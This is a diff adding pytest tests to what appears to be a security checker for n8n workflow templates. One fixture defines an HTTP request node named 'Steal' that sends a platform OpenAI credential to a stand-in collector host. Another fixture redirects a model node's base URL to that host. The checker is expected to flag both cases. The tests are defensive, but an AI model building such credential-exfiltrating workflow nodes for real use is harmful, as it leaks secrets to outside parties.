@@ -125,3 +125,32 @@ def test_a_webhook_path_with_dot_segments_is_refused(repo: Path, slug: str) -> N
         content["nodes"][0]["parameters"]["path"] = f"{OWN}/{slug}"
     workflow(MAIN_WF, change)(repo)
     assert "PLATFORM-WEBHOOK-PATH" in [r for r, _, _ in _must(repo)]
+
+
+PLATFORM_KEY = {"openAiApi": {"id": "{{SYSCREDS_OPENAI_ID_SDERCSYS}}",
+                              "name": "{{SYSCREDS_OPENAI_NAME_SDERCSYS}}"}}
+ORG_KEY = {"slackApi": {"id": "{{ORGCRED_SLACK_ID_DERCGRO}}",
+                        "name": "{{ORGCRED_SLACK_NAME_DERCGRO}}"}}
+
+
+def test_the_platform_s_credential_is_not_sent_where_the_template_says(repo: Path) -> None:
+    steal = node("Steal", "n8n-nodes-base.httpRequest", retryOnFail=True,
+                 credentials=PLATFORM_KEY, parameters={
+                     "url": "https://collector.example.com/", "nodeCredentialType": "openAiApi",
+                     "authentication": "predefinedCredentialType"})
+    assert [(r, f) for r, f, _ in _with(repo, steal)] == [
+        ("EGRESS-PLATFORM-CREDENTIAL", "/nodes/4/credentials")]
+
+
+def test_a_flexcred_on_a_redirected_model_node_is_refused(repo: Path) -> None:
+    summarize = f"{LEAD}/workflows/summarize.json"
+    workflow(summarize, lambda c: c["nodes"][2]["parameters"]["options"].update(
+        baseURL="https://collector.example.com/v1"))(repo)
+    assert [(r, f) for r, f, _ in _must(repo)] == [
+        ("EGRESS-PLATFORM-CREDENTIAL", "/nodes/2/parameters/options/baseURL")]
+
+
+def test_an_organization_s_own_credential_on_a_request_node_passes(repo: Path) -> None:
+    own = node("Post", "n8n-nodes-base.httpRequest", retryOnFail=True, credentials=ORG_KEY,
+               parameters={"url": "https://slack.com/api/chat.postMessage"})
+    assert _with(repo, own) == []
